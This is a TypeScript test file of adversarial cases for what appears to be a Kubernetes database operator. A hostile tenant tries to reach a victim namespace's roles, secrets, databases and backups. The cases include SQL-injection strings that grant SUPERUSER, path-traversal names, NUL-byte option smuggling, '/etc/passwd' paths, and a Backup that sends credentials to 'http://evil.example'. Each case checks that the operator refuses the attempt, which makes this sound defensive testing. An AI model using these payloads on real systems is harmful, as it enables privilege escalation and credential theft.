// Attempts of a tenant by the operator's rights on database servers: roles, databases and backups that a spec requests.
import { expect } from 'vitest'
import { type Attempt, condition, harmless, invalid, type Outcome } from '../attempt.ts'
import { victimNamespace } from '../victim.ts'

type Act = Attempt['act']

const attempt = (does: string, act: Act, outcome: Outcome): Attempt => ({ attacker: 'tenant', does, act, outcome })

const own = [{ name: 'mine', access: 'ReadWrite' }]
const shared = [{ name: 'shared', namespace: victimNamespace, access: 'ReadOnly' }]
const serverOf = (name: string) => ({ server: { connectionSecretRef: { name }, sslMode: 'disable' } })
const provider = serverOf('server')
const target = { pvc: { claimName: 'backups' } }

const creates =
  (kind: string, spec: object): Act =>
  ({ tenant }, name) =>
    tenant.create(kind, name, { spec })

const user = (spec: object) => creates('dbu', { databases: own, ...spec })
const database = (spec: object) => creates('db', { provider, ...spec })
const backup = (spec: object) => creates('bak', { databaseRef: { name: 'mine' }, target, ...spec })

const noName = /cannot be a name/
const userIs = (reason: string, message?: RegExp) => condition('dbu', `Ready False ${reason}`, message)
const databaseIs = (reason: string, message?: RegExp) => condition('db', `Ready False ${reason}`, message)

const guests: readonly Attempt[] = [
  attempt(
    'names a Database of a namespace that does not allow it',
    user({ databases: [{ name: 'orders', namespace: victimNamespace, access: 'Owner' }] }),
    userIs('NotAllowed'),
  ),
  attempt(
    'names a Database as namespace/name',
    user({ databases: [{ name: `${victimNamespace}/orders`, access: 'Owner' }] }),
    userIs('DatabaseMissing'),
  ),
  attempt(
    'names a Database by a path to the victim',
    user({ databases: [{ name: `../../${victimNamespace}/databases/orders`, access: 'Owner' }] }),
    userIs('DatabaseMissing'),
  ),
  attempt(
    'names a Database with an encoded slash',
    user({ databases: [{ name: `..%2F..%2F${victimNamespace}%2Fdatabases%2Forders`, access: 'Owner' }] }),
    userIs('DatabaseMissing'),
  ),
  attempt(
    'names a Database with a query after its name',
    user({ databases: [{ name: 'mine?namespace=victim', access: 'Owner' }] }),
    userIs('DatabaseMissing'),
  ),
  attempt(
    'names a namespace as a path',
    user({ databases: [{ name: 'orders', namespace: `x/../${victimNamespace}`, access: 'Owner' }] }),
    userIs('NotAllowed'),
  ),
  attempt(
    'names 16,384 functions, to compare each with every function of the database',
    user({
      databases: [
        {
          ...{ name: 'mine', access: 'Custom' },
          grants: Array.from({ length: 64 }, (_, grant) => ({
            ...{ objectType: 'Function', privileges: ['EXECUTE'] },
            names: Array.from({ length: 256 }, (_name, at) => `n${grant}x${at}`),
          })),
        },
      ],
    }),
    userIs('ObjectNotFound', /not there: function n0x0/),
  ),
  attempt('adopts a role as a guest', user({ databases: shared, adoptionPolicy: 'Adopt' }), userIs('NotAllowed')),
  attempt('joins a role as a guest', user({ databases: shared, memberOf: ['shared_owner'] }), userIs('NotAllowed')),
  attempt(
    'requests CREATEDB as a guest',
    user({ databases: shared, attributes: { createdb: true } }),
    userIs('NotAllowed'),
  ),
  attempt(
    'names a Database of the victim beside its own in one DatabaseUser',
    user({ databases: [...own, { name: 'orders', namespace: victimNamespace, access: 'Owner' }] }),
    userIs('NotAllowed'),
  ),
  attempt(
    'names the victim’s Database while a wildcard in `allowedNamespaces` opens its own Database',
    database({ allowedNamespaces: { selector: {} } }),
    harmless('The consent covers only the attacker’s own Database.'),
  ),
]

const roles: readonly Attempt[] = [
  ...['orders_owner', 'app', 'app_a', 'boss', 'report_a', 'shared_owner'].map((roleName) =>
    attempt(
      `adopts the victim’s role ${roleName}`,
      user({ roleName, adoptionPolicy: 'Adopt' }),
      userIs('NotOwned', /made for/),
    ),
  ),
  attempt(
    'chooses a role whose login has the name of a victim’s role',
    user({ roleName: 'report', adoptionPolicy: 'Adopt' }),
    userIs('NotOwned', /made for/),
  ),
  attempt('takes a role of the victim without adopting it', user({ roleName: 'app' }), userIs('NotOwned')),
  attempt(
    'adopts the administrator of the victim',
    user({ roleName: 'victim_admin', adoptionPolicy: 'Adopt' }),
    userIs('PrivilegedRole'),
  ),
  attempt(
    'adopts the role that the operator logs in as',
    user({ roleName: 'tenant_admin', adoptionPolicy: 'Adopt' }),
    userIs('PrivilegedRole'),
  ),
  ...['orders_owner', 'app', 'app_a', 'victim_admin', 'boss'].map((role) =>
    attempt(`becomes a member of ${role}`, user({ memberOf: [role] }), userIs('PrivilegedRole')),
  ),
  ...['pg_read_all_data', 'pg_write_all_data', 'pg_signal_backend', 'pg_database_owner', 'pg_checkpoint'].map((role) =>
    attempt(`becomes a member of ${role}`, user({ memberOf: [role] }), userIs('PrivilegedRole')),
  ),
  ...['pg_monitor', 'pg_read_all_stats', 'pg_read_all_settings', 'pg_stat_scan_tables'].map((role) =>
    attempt(`becomes a member of ${role}`, user({ memberOf: [role] }), userIs('PrivilegedRole')),
  ),
  attempt(
    'requests a replication role from an administrator without that right',
    creates('dbu', { databases: [{ name: 'small', access: 'ReadOnly' }], attributes: { replication: true } }),
    userIs('InsufficientPrivilege'),
  ),
  ...Object.entries({
    session_preload_libraries: 'auto_explain',
    session_replication_role: 'replica',
    log_statement: 'none',
    lo_compat_privileges: 'on',
    zero_damaged_pages: 'on',
  }).map(([name, value]) =>
    attempt(`sets ${name} for its sessions`, user({ config: { [name]: value } }), userIs('InsufficientPrivilege')),
  ),
  attempt(
    'grants on a table whose name ends the statement',
    user({
      databases: [
        {
          name: 'mine',
          access: 'Custom',
          grants: [
            { objectType: 'Table', names: [`t" TO PUBLIC; ALTER ROLE app SUPERUSER; --`], privileges: ['SELECT'] },
          ],
        },
      ],
    }),
    condition('dbu', 'GrantsInSync False ObjectNotFound'),
  ),
  attempt(
    'writes SQL into a setting',
    user({ config: { search_path: `'; ALTER ROLE app SUPERUSER; --` } }),
    harmless('The text is a value; nothing else runs.', {
      check: async (stage, name) => {
        await stage.until('the user to be Ready', () => stage.isReady('dbu', name))
        const rows = await stage.postgres.byHand(
          `SELECT s.setconfig FROM pg_db_role_setting s JOIN pg_roles r ON r.oid = s.setrole WHERE r.rolname LIKE '${name}%'`,
        )
        // PostgreSQL folds a name in a list of schemas to lower case.
        expect(JSON.stringify(rows)).toContain('alter role app superuser; --')
      },
    }),
  ),
]

const unknownKeys = '{{../server.password}} {{secrets.api-keys.token}} {{constructor}}'

const secrets: readonly Attempt[] = [
  attempt(
    'takes a password from a Secret of the victim',
    user({ password: { secretRef: { name: `../${victimNamespace}/secrets/api-keys`, key: 'token' } } }),
    condition('dbu', 'Ready False BadRequest', noName),
  ),
  attempt(
    'makes the operator write its login over the connection Secret of the namespace',
    user({ secret: { name: 'server' } }),
    condition('dbu', 'Ready False NameConflict'),
  ),
  attempt(
    'sets the labels of a victim’s child on its Secret',
    async (stage, name) => {
      const labels = { 'applyset.kubernetes.io/part-of': stage.setIdOf('DatabaseUser', 'app') }
      await stage.tenant.create('dbu', name, { spec: { databases: own, secret: { labels } } })
    },
    harmless('The operator’s own labels win; the victim’s DatabaseUsers have no new child.', {
      check: async (stage, name) => {
        await stage.until('the user to be Ready', () => stage.isReady('dbu', name))
        const { labels } = (await stage.editor.peek('secret', `${name}-db`))?.metadata ?? {}
        expect(labels?.['applyset.kubernetes.io/part-of']).not.toBe(stage.setIdOf('DatabaseUser', 'app'))
      },
    }),
  ),
  attempt(
    'names keys of other Secrets in a template of its Secret',
    user({ secret: { template: { stolen: `{{username}} ${unknownKeys}` } } }),
    harmless('A template expands only keys of its own Secret; any other stays literal.', {
      check: async (stage, name) => {
        await stage.until('the user to be Ready', () => stage.isReady('dbu', name))
        const { data } = (await stage.editor.peek('secret', `${name}-db`)) ?? {}
        expect(Buffer.from(data?.['stolen'] ?? '', 'base64').toString()).toBe(`${name}_a ${unknownKeys}`)
      },
    }),
  ),
  attempt(
    'makes a Backup send the Secret of its DatabaseUser to its own store as keys',
    async ({ tenant }, name) => {
      const template = { accessKeyId: '{{password}}', secretAccessKey: '{{password}}' }
      await tenant.create('dbu', name, { spec: { databases: own, secret: { template } } })
      const s3 = { bucket: 'loot', endpoint: 'http://evil.example', credentialsSecretRef: { name: `${name}-db` } }
      await tenant.create('bak', name, { spec: { databaseRef: { name: 'mine' }, target: { s3 } } })
    },
    condition('bak', 'Ready False SecretNotAllowed', /kubectl label secret/),
  ),
  attempt(
    'reads the Secret of its DatabaseUser in the environment of a ReplicatedKVStore',
    async ({ tenant }, name) => {
      await tenant.create('dbu', name, { spec: { databases: own } })
      const valueFrom = { secretKeyRef: { name: `${name}-db`, key: 'password' } }
      await tenant.create('kv', name, { spec: { image: 'valkey/valkey:8.0', env: [{ name: 'LOOT', valueFrom }] } })
    },
    condition('kv', 'Ready False SecretNotAllowed', /kubectl label secret/),
  ),
  attempt(
    'makes a Database read the Secret of its DatabaseUser as certificates',
    async ({ tenant }, name) => {
      await tenant.create('dbu', name, {
        spec: { databases: own, secret: { template: { ca: '-----BEGIN CERTIFICATE-----{{uri}}' } } },
      })
      const server = { ...serverOf('server').server, caSecretRef: { name: `${name}-db`, key: 'ca' } }
      await tenant.create('db', name, { spec: { provider: { server } } })
    },
    databaseIs('SecretNotAllowed', /kubectl label secret/),
  ),
  attempt(
    'writes templates that make its Secret too large',
    user({
      secret: {
        template: Object.fromEntries(Array.from({ length: 32 }, (_, at) => [`k${at}`, '{{jdbc-uri}}'.repeat(341)])),
      },
    }),
    userIs('SecretTooLarge'),
  ),
  attempt(
    'connects by a Secret of the victim',
    creates('db', { provider: serverOf(`../../${victimNamespace}/secrets/postgres-admin`) }),
    databaseIs('BadRequest', noName),
  ),
  attempt(
    'connects by a Secret named as namespace/name',
    creates('db', { provider: serverOf(`${victimNamespace}/postgres-admin`) }),
    databaseIs('BadRequest', noName),
  ),
  attempt(
    'names a password as a CA certificate, to read it in the error',
    creates('db', {
      provider: {
        server: {
          connectionSecretRef: { name: 'server' },
          sslMode: 'verify-full',
          caSecretRef: { name: 'server', key: 'password' },
        },
      },
    }),
    databaseIs('InvalidCertificate', /^password in Secret server is not a certificate in PEM$/),
  ),
]

const databases: readonly Attempt[] = [
  attempt(
    'adopts the database of the victim',
    database({ databaseName: 'orders', adoptionPolicy: 'Adopt' }),
    databaseIs('NotOwned'),
  ),
  attempt(
    'takes the database of the victim without adopting it',
    database({ databaseName: 'orders' }),
    databaseIs('NotOwned'),
  ),
  attempt(
    'creates a database whose owner has the name of a victim’s role',
    database({ databaseName: 'ledger' }),
    databaseIs('NotOwned'),
  ),
  attempt(
    'deletes a Database that names the victim’s, with deletionPolicy Delete',
    async (stage, name) => {
      await stage.tenant.create('db', name, {
        spec: { provider, databaseName: 'orders', adoptionPolicy: 'Adopt', deletionPolicy: 'Delete' },
      })
      await databaseIs('NotOwned').check(stage, name)
      await stage.tenant.delete('db', name)
      await stage.until('it to be gone', async () => (await stage.editor.peek('db', name)) === undefined)
    },
    harmless('The operator drops only databases and roles that the resource owned.'),
  ),
  attempt(
    'deletes a user that names a role of the victim, with ownedObjects ReassignToOwner',
    async (stage, name) => {
      await stage.tenant.create('dbu', name, {
        spec: { databases: own, roleName: 'app', adoptionPolicy: 'Adopt', ownedObjects: 'ReassignToOwner' },
      })
      await userIs('NotOwned').check(stage, name)
      await stage.tenant.delete('dbu', name)
      await stage.until('it to be gone', async () => (await stage.editor.peek('dbu', name)) === undefined)
    },
    harmless('The operator drops only databases and roles that the resource owned.'),
  ),
  attempt(
    'installs an extension that reads the server’s files, with an administrator without that right',
    creates('db', { provider: serverOf('limited'), extensions: [{ name: 'file_fdw' }] }),
    condition('db', 'Ready False InsufficientPrivilege'),
  ),
  attempt(
    'connects to a maintenance database that is a connection string',
    creates('db', {
      provider: {
        server: {
          connectionSecretRef: { name: 'server' },
          sslMode: 'disable',
          maintenanceDatabase: 'host=evil dbname=orders',
        },
      },
    }),
    databaseIs('NotFound', /3D000 database "host=evil dbname=orders" does not exist/),
  ),
  attempt(
    'adds a setting to the administrator’s sessions after a NUL in the maintenance database',
    creates('db', {
      provider: {
        server: {
          connectionSecretRef: { name: 'server' },
          sslMode: 'disable',
          maintenanceDatabase: 'postgres\0options\0-cdefault_transaction_read_only=on',
        },
      },
    }),
    databaseIs('InvalidLogin'),
  ),
  attempt(
    'restores from a Backup by a path to the victim',
    database({ bootstrap: { restoreFrom: { backupRef: { name: `../../${victimNamespace}/backups/nightly` } } } }),
    databaseIs('BackupMissing'),
  ),
  attempt(
    'backs up a Database by a path to the victim',
    backup({ databaseRef: { name: `../../${victimNamespace}/databases/orders` } }),
    condition('bak', 'Ready False DatabaseMissing'),
  ),
  attempt(
    'migrates a Database by a path to the victim',
    creates('mig', {
      databaseRef: { name: `../../${victimNamespace}/databases/orders` },
      steps: [{ name: 'only', sql: 'DROP TABLE bills' }],
    }),
    condition('mig', 'Ready False DatabaseMissing'),
  ),
  attempt(
    'takes a step from a ConfigMap of the victim',
    creates('mig', {
      databaseRef: { name: 'mine' },
      steps: [
        {
          name: 'only',
          configMapKeyRef: {
            name: `../../${victimNamespace}/configmaps/kube-root-ca.crt`,
            key: 'ca.crt',
            sha256: '0'.repeat(64),
          },
        },
      ],
    }),
    condition('mig', 'Ready False BadRequest', noName),
  ),
  attempt(
    'sets a time zone that is a path',
    backup({ schedule: '0 0 29 2 *', timeZone: '../../../../etc/passwd' }),
    condition('bak', 'Ready False InvalidTimeZone'),
  ),
]

/** Requests of one resource that reach another one of the namespace, by rights that only the operator has. */
const besides: readonly Attempt[] = [
  attempt(
    'stores artifacts in the volume of a server of the namespace',
    async (stage, name) => {
      await stage.tenant.create('db', name, { spec: { version: '18', provider: { inCluster: {} } } })
      let claim: string | undefined
      await stage.until('the claim of the server', async () => {
        const claims = await stage.attackers.list('pvc')
        claim = claims.map(({ metadata }) => metadata.name).find((one) => one.includes(name))
        return claim !== undefined
      })
      const spec = { databaseRef: { name: 'mine' }, target: { pvc: { claimName: claim } } }
      await stage.tenant.create('bak', name, { spec })
    },
    {
      ...condition('bak', 'Ready False ClaimRefused', /is the volume of a server/),
      // The simulated pods run no PostgreSQL.
      reasons: ['ClaimRefused', 'ServerUnreachable', 'DependencyUnavailable', 'PodsNotReady'],
    },
  ),
  attempt(
    'makes the script of an extension run in its own schema, with a function that the script may call',
    async (stage, name) => {
      await stage.tenant.create('db', name, { spec: { provider } })
      await stage.tenant.create('dbu', name, { spec: { databases: [{ name, access: 'Owner' }] } })
      await stage.until('his user to be Ready', () => stage.isReady('dbu', name))
      const trap = `CREATE FUNCTION app.xml_valid(text) RETURNS bool LANGUAGE plpgsql
        AS $$ BEGIN EXECUTE 'ALTER ROLE app SUPERUSER'; RETURN true; END $$`
      await stage.sql(name, `CREATE SCHEMA app; ${trap}`, name)
      expect(stage.said.filter((one) => typeof one === 'string')).toEqual([])
      await stage.tenant.patch('db', name, { spec: { extensions: [{ name: 'xml2', schema: 'app' }] } })
    },
    { ...databaseIs('UnsafeSchema', /schema app belongs to/), reasons: ['UnsafeSchema', 'DatabaseNotReady'] },
  ),
]

/** Texts that cost the operator more than the tenant. */
const costs: readonly Attempt[] = [
  attempt(
    'sets a schedule that needs a search over years',
    backup({ schedule: '* * * 1-9 *' }),
    condition('bak', 'Ready False ScheduleTooFrequent'),
  ),
  attempt(
    'writes a step of 990 KB of expressions',
    creates('mig', {
      databaseRef: { name: 'mine' },
      steps: [{ name: 'only', sql: `SELECT ${'1,'.repeat(490_000)}1` }],
    }),
    invalid('spec.steps[].sql'),
  ),
  attempt(
    'writes 15 steps of 64 KB of expressions each',
    async (stage, name) => {
      const sql = `SELECT ${'1,'.repeat(32_000)}1`
      const all = Array.from({ length: 15 }, (_, at) => ({ name: `step-${at}`, sql }))
      const order = await stage.orderOf(name, all)
      stage.report = order.outcome === 'Ordered' ? 'Ordered' : order.message
    },
    harmless('The review runs in a separate process; the operator reconciles the victim’s resources meanwhile.', {
      // A machine under load reaches the time limit of the review.
      check: async ({ report }) => expect(report).toMatch(/^Ordered$|StepTooComplex/),
    }),
  ),
  attempt(
    'uses the password of another Secret as the password of its role',
    user({ password: { secretRef: { name: 'server', key: 'password' } } }),
    condition('dbu', 'Ready False SecretNotAllowed'),
  ),
]

export const tenantDatabaseAttempts: readonly Attempt[] = [
  ...guests,
  ...roles,
  ...secrets,
  ...databases,
  ...besides,
  ...costs,
]
